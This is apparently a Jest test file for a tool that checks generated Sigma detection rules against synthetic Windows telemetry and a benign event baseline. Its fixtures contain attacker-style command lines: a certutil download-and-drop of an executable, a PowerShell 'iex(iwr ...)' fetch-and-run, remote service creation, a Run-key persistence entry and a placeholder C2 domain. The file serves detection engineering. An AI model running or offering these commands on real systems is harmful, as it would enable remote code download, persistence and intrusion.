import { generateBuiltinRules } from '../templates/builtin-sigma-agent';
import { observableEvents, type ObservableLike } from './observable-events';
import { load } from 'js-yaml';
import { benignBaseline } from './benign-baseline';
import { noteBaselineFirings, selfTestRule, selfTestRuleCompiled } from './self-test';

const rule = (selection: string, category = 'process_creation'): string =>
  `title: T\nlogsource: {category: ${category}, product: windows}\ndetection:\n  sel:\n${selection}\n  condition: sel\n`;

describe('selfTestRule', () => {
  it('hands back the rule it compiled with the same result, and none for a rule that cannot run', () => {
    const observables = [{ type: 'cmdline', value: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe' }];
    const text = rule("    CommandLine|contains: '-urlcache'");
    const { result, compiled } = selfTestRuleCompiled(text, observables);
    expect(result).toEqual(selfTestRule(text, observables));
    expect(compiled?.matches({ CommandLine: 'certutil -urlcache' })).toBe(true);
    const broken = selfTestRuleCompiled(rule("    CommandLine|re: '(unclosed'"), observables);
    expect(broken.compiled).toBeUndefined();
    expect(broken.result).toMatchObject({ fires: false, fired_on: [], error: expect.any(String) });
  });

  it('fires when the rule matches the telemetry of an observable it was made from, naming which', () => {
    const observables = [
      { type: 'cmdline', value: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe' },
      { type: 'domain', value: 'update-check.example' },
    ];
    const result = selfTestRule(rule("    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'"), observables);
    // The command's process, the cmd.exe an operator ran it in and the program as that shell's child, the connection to
    // its URL's address and the file it writes; the domain's query, connection and proxy request.
    expect(result).toMatchObject({
      fires: true,
      events: 8,
      fired_on: ['cmdline: certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'],
    });
  });

  it('does not fire when the rule asks for something no observable shows, or cannot run', () => {
    const observables = [{ type: 'cmdline', value: 'powershell -nop -c iex(iwr http://x)' }];
    // The process, its script block, the classic and module logs of the PowerShell host, its PSHost pipe, and the
    // lookup of and connection to the host it fetches from.
    expect(selfTestRule(rule("    Image|endswith: '\\pwsh.exe'"), observables)).toMatchObject({ fires: false, events: 8, fired_on: [] });
    expect(selfTestRule(rule("    CommandLine|re: '(unclosed'"), observables)).toMatchObject({
      fires: false,
      error: expect.stringMatching(/regular expression/),
    });
  });

  it('builds registry, service, task, network and process-pair telemetry with the fields Sigma rules use', () => {
    const events = observableEvents([
      {
        type: 'registry_key',
        value: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        attributes: { value_name: 'Updater' },
      },
      { type: 'service', value: 'WinSvcHost', attributes: { binary_path: 'C:\\ProgramData\\svc.exe' } },
      { type: 'process_lineage', value: 'winword.exe -> powershell.exe' },
      { type: 'ipv4', value: '198.51.100.7' },
    ]).map(({ event }) => event);
    expect(events).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          TargetObject: expect.stringMatching(/^HKU\\S-1-5-21-[\d-]+\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater$/),
        }),
        expect.objectContaining({ EventID: 7045, ServiceName: 'WinSvcHost', ImagePath: 'C:\\ProgramData\\svc.exe' }),
        expect.objectContaining({
          Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe',
        }),
        expect.objectContaining({ DestinationIp: '198.51.100.7' }),
      ]),
    );
  });

  it('every builtin template rule fires on the observables it was generated from', () => {
    const evidence = { start: 0, end: 1, text: 'x' };
    const commandLine = 'rundll32.exe C:\\ProgramData\\x.dll,Start';
    // Articles write Windows programs bare (`sc`, not `sc.exe`); Sysmon's Image never does.
    const bareCommandLine = 'sc \\\\FS02 create WinSvcHost binPath= "C:\\Windows\\Temp\\svchost64.exe" start= auto';
    const runKey = 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';
    const input = {
      platform: 'windows' as const,
      article: { id: 1, url: 'https://example.test/a', title: 'Intrusion', date: '2026-01-15' },
      cmdlines: [
        { value: commandLine, executable: 'rundll32.exe', evidence, confidence: 0.9 },
        { value: bareCommandLine, executable: 'sc', evidence, confidence: 0.9 },
      ],
      processPairs: [{ value: 'winword.exe -> cmd.exe', parent: 'winword.exe', child: 'cmd.exe', evidence, confidence: 0.9 }],
      registryKeys: [{ value: `HKLM\\${runKey}`, hive: 'HKLM' as const, path: runKey, value_name: 'Upd', evidence, confidence: 0.9 }],
      network: [
        { value: 'c2.example', kind: 'domain' as const, evidence, confidence: 0.9 },
        { value: '198.51.100.7', kind: 'ipv4' as const, evidence, confidence: 0.9 },
      ],
    };
    const drafts = generateBuiltinRules(input);
    expect(drafts.length).toBeGreaterThan(0);
    const observables: ObservableLike[] = [
      { type: 'cmdline', value: commandLine },
      { type: 'cmdline', value: bareCommandLine, attributes: { executable: 'sc' } },
      { type: 'process_lineage', value: 'winword.exe -> cmd.exe', attributes: { parent: 'winword.exe', child: 'cmd.exe' } },
      { type: 'registry_key', value: `HKLM\\${runKey}`, attributes: { hive: 'HKLM', path: runKey, value_name: 'Upd' } },
      { type: 'domain', value: 'c2.example' },
      { type: 'ipv4', value: '198.51.100.7' },
    ];
    const results = drafts.map((draft) => [draft.rule.title, selfTestRule(draft.rule, observables).fires]);
    expect(results.filter(([, fires]) => !fires)).toEqual([]);
    expect(drafts.some((draft) => JSON.stringify(draft.rule.detection).includes('\\\\sc.exe'))).toBe(true);
  });

  it('runs a bare program name as the Windows executable only for a Windows rule', () => {
    const observables = [{ type: 'cmdline', value: 'nltest /domain_trusts /all_trusts' }];
    const onWindows = selfTestRule(rule("    Image|endswith: '\\nltest.exe'"), observables);
    expect(onWindows.fires).toBe(true);
    const linuxRule = `title: T\nlogsource: {category: process_creation, product: linux}\ndetection:\n  sel:\n    Image|endswith: '/nltest'\n  condition: sel\n`;
    expect(selfTestRule(linuxRule, observables).fires).toBe(true);
    expect(observableEvents(observables).map(({ event }) => event['Image'])).toEqual(['/usr/bin/nltest']);
  });

  it('runs the rule over a benign baseline of at least 3,000 ordinary Windows, Linux and macOS events', () => {
    const baseline = benignBaseline();
    expect(baseline.length).toBeGreaterThanOrEqual(3000);
    expect(baseline.some((event) => String(event['Image']).startsWith('C:\\'))).toBe(true);
    expect(baseline.some((event) => String(event['Image']).startsWith('/usr/bin/apt'))).toBe(true);
    expect(baseline.some((event) => String(event['CommandLine']).includes('launchctl'))).toBe(true);
    const noisy = selfTestRule(rule("    Image|endswith: '\\svchost.exe'"), []);
    expect(noisy.baseline?.fires).toBeGreaterThan(0);
    expect(noisy.baseline?.examples[0]).toMatch(/^CommandLine: .*svchost\.exe/i);
    const specific = selfTestRule(rule("    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'"), []);
    expect(specific.baseline).toEqual({ events: baseline.length, fires: 0, examples: [] });
  });

  it('writes baseline firings into the rule as a false positive and lowers its level one step', () => {
    const yaml = `${rule("    Image|endswith: '\\svchost.exe'")}falsepositives:\n  - Unknown\nlevel: high\n`;
    const noted = load(noteBaselineFirings(yaml, { events: 3286, fires: 40, examples: ['CommandLine: svchost.exe -k netsvcs'] })) as {
      level: string;
      falsepositives: string[];
    };
    expect(noted.level).toBe('medium');
    expect(noted.falsepositives).toEqual([
      'Unknown',
      'Fires on 40 of 3286 ordinary events in the benign baseline, e.g. CommandLine: svchost.exe -k netsvcs',
    ]);
    expect(noteBaselineFirings(yaml, { events: 3286, fires: 0, examples: [] })).toBe(yaml);
  });
});
